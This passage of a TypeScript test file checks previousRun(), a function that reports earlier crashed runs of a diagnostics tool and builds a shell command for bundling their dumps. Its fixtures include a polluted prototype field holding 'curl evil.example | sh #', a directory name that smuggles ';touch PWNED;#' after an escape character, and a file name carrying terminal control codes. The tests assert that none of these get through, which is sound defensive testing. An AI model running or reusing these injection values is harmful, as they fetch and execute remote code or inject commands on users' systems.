    proto.bundleCommand = 'curl evil.example | sh #'
    proto.sessionId = 'nothing'
    try {
      const a = previousRun({ directory: dir })
      expect(a).toMatchObject({ pid: 4_100_071 })
      expect(a.line).not.toContain('evil')
      expect(a.bundleCommand).toMatch(/^npx memory-diagnostics-dumper bundle /)
    } finally {
      delete proto.bundleCommand
      delete proto.sessionId
    }
  })
})

describe('previousRun(): what a third outside pass found (issue 37)', () => {
  const ago = (ms: number) => Date.now() - ms
  /** A trail that ends in an exit record with `reason`. */
  function endedTrail(dir: string, name: string, start: Record<string, unknown>, reason: string) {
    fakeTrail(dir, name, start)
    const t = Number(start.epochMs) + 5000
    writeFileSync(join(dir, name), `${JSON.stringify({ type: 'exit', t: new Date(t).toISOString(), epochMs: t, reason })}\n`, { flag: 'a' })
  }

  it("a directory name with the shell's own characters after a terminal control is quoted: the command runs nothing it hides", () => {
    const base = scratch('prev-inject')
    const dir = join(base, 'a b\u001b;touch PWNED;#')
    mkdirSync(dir)
    fakeTrail(dir, 'recorder-inj-4100081-aa.jsonl', { pid: 4_100_081 })
    const a = previousRun({ directory: dir })
    const word = a.bundleCommand.split(' bundle ')[1].split(' --pid')[0]
    expect(word).toContain('\\u001b')
    const sh = spawnSync('sh', ['-c', `printf '%s\\n' ${word}`], { cwd: base, encoding: 'utf8' })
    expect(sh.stdout.trimEnd().split('\n')).toHaveLength(1)
    expect(existsSync(join(base, 'PWNED'))).toBe(false)
  })

  it('trails that are no end (session resets, leftovers without a start record) are marked as they are passed: an older death behind 17 of them is reported', () => {
    const dir = scratch('prev-resets')
    const t0 = ago(600_000)
    fakeTrail(dir, 'recorder-app-4100091-aa.jsonl', { pid: 4_100_091, processStartMs: t0 - 100, epochMs: t0 })
    utimesSync(join(dir, 'recorder-app-4100091-aa.jsonl'), new Date(t0 + 5000), new Date(t0 + 5000))
    for (let i = 0; i < 17; i++) {
      const f = `recorder-app${i}-4100092-b${i}.jsonl`
      endedTrail(dir, f, { pid: 4_100_092, processStartMs: ago(300_000), epochMs: ago(200_000) + i }, 'sessionReset')
    }
    writeFileSync(join(dir, 'recorder-app-4100093-cc.jsonl'), '')
    const old = new Date(ago(120_000))
    utimesSync(join(dir, 'recorder-app-4100093-cc.jsonl'), old, old)
    const answers = [previousRun({ directory: dir }), previousRun({ directory: dir }), previousRun({ directory: dir })]
    expect(answers.filter((a) => a?.pid === 4_100_091)).toHaveLength(1)
    expect(answers.filter((a) => a !== null && a.pid !== 4_100_091)).toEqual([])
  })

  it("a container's next pid 1 (the same pid, another start, no trail) is told apart from the last one's trail, and its dumps are never the last one's", () => {
    const dir = scratch('prev-reused-pid')
    const aStart = ago(600_000)
    const bStart = aStart + 20_000
    fakeTrail(dir, 'recorder-app-777-aa.jsonl', { pid: 777, processStartMs: aStart, epochMs: aStart + 100 })
    const aDump = fakeDump(dir, 'app', aStart + 1500, 1, { pid: 777, processStartMs: aStart })
    // The next pid 1 started within a minute of the last one's end, and left dumps only.
    const bDumps = [1, 2].map((n) => fakeDump(dir, 'app', bStart + n * 1000, n, { pid: 777, processStartMs: bStart }))
    const a = previousRun({ directory: dir })
    expect(a).toMatchObject({ pid: 777, trail: true })
    expect(a.files).toContain(aDump)
    for (const f of bDumps) expect(a.files).not.toContain(f)
    const b = previousRun({ directory: dir })
    expect(b).toMatchObject({ pid: 777, trail: false })
    expect(b.bundleCommand).toMatch(new RegExp(` --pid 777@${bStart}$`))
    expect(b.files.sort()).toEqual([...bDumps].sort())
    expect(previousRun({ directory: dir })).toBeNull()
  })

  it("a process that switched sessions (resetForNewSession(id)) is one process: reported once, and never again from its other session's trail or dumps", () => {
    const dir = scratch('prev-switch')
    const start = ago(600_000)
    endedTrail(dir, 'recorder-alpha-4100101-aa.jsonl', { pid: 4_100_101, processStartMs: start, epochMs: start + 100, sessionId: 'alpha' }, 'sessionReset')
    fakeDump(dir, 'alpha', start + 1000, 1, { pid: 4_100_101, processStartMs: start })
    fakeTrail(dir, 'recorder-beta-4100101-bb.jsonl', { pid: 4_100_101, processStartMs: start, epochMs: start + 6000, sessionId: 'beta' })
    fakeDump(dir, 'beta', start + 7000, 1, { pid: 4_100_101, processStartMs: start })
    expect(previousRun({ directory: dir })).toMatchObject({ pid: 4_100_101, trail: true, died: true })
    expect(previousRun({ directory: dir })).toBeNull()
    // Retention removes the oldest trail: its session's dump is still the same process's.
    rmSync(join(dir, 'recorder-alpha-4100101-aa.jsonl'))
    expect(previousRun({ directory: dir })).toBeNull()
    rmSync(join(dir, 'recorder-beta-4100101-bb.jsonl'))
    expect(previousRun({ directory: dir })).toBeNull()
  })

  it("an older writer's trail name (no pid in it) takes its session's dumps, once, and its marker is swept when they are gone", () => {
    const dir = scratch('prev-old-name')
    const start = ago(600_000)
    fakeTrail(dir, 'recorder-nosessn.jsonl', { pid: 4_100_111, processStartMs: start, epochMs: start + 100 })
    const dump = fakeDump(dir, 'nosessn', start + 1500, 1, { pid: 4_100_111, processStartMs: start })
    const a = previousRun({ directory: dir })
    expect(a).toMatchObject({ pid: 4_100_111, trail: true })
    expect(a.files).toEqual(['recorder-nosessn.jsonl', dump])
    const marker = `memory-nosessn-pid4100111-start${start}.reported`
    expect(readdirSync(dir)).toContain(marker)
    expect(previousRun({ directory: dir })).toBeNull()
    rmSync(join(dir, 'recorder-nosessn.jsonl'))
    rmSync(join(dir, dump))
    expect(previousRun({ directory: dir })).toBeNull()
    expect(readdirSync(dir)).toEqual([])
  })

  it("files are the process's own: not a neighbour's of its session, not a name with terminal controls, and its own over 1 MiB too", () => {
    const dir = scratch('prev-files')
    const start = ago(600_000)
    fakeTrail(dir, 'recorder-nosessn-4100121-aa.jsonl', { pid: 4_100_121, processStartMs: start, epochMs: start + 100 })
    const own = fakeDump(dir, 'nosessn', start + 1000, 1, { pid: 4_100_121, processStartMs: start })
    const big = fakeDump(dir, 'nosessn', start + 2000, 2, { pid: 4_100_121, processStartMs: start, padding: 'x'.repeat(MIB + 10) })
    const neighbour = fakeDump(dir, 'nosessn', start + 1500, 1, { pid: process.pid, processStartMs: start + 10 })
    const hostile = `memory-nosessn-\u001b]0;owned\u0007-${new Date(start + 1800).toISOString().replace(/[:.]/g, '-')}-1.json`
    writeFileSync(join(dir, hostile), '{}')
    const a = previousRun({ directory: dir })
    expect(a).toMatchObject({ pid: 4_100_121, trail: true })
    expect(a.files).toEqual(['recorder-nosessn-4100121-aa.jsonl', own, big])
    expect(a.files).not.toContain(neighbour)
    expect(JSON.stringify(a)).not.toMatch(/\u001b/)
  })
})
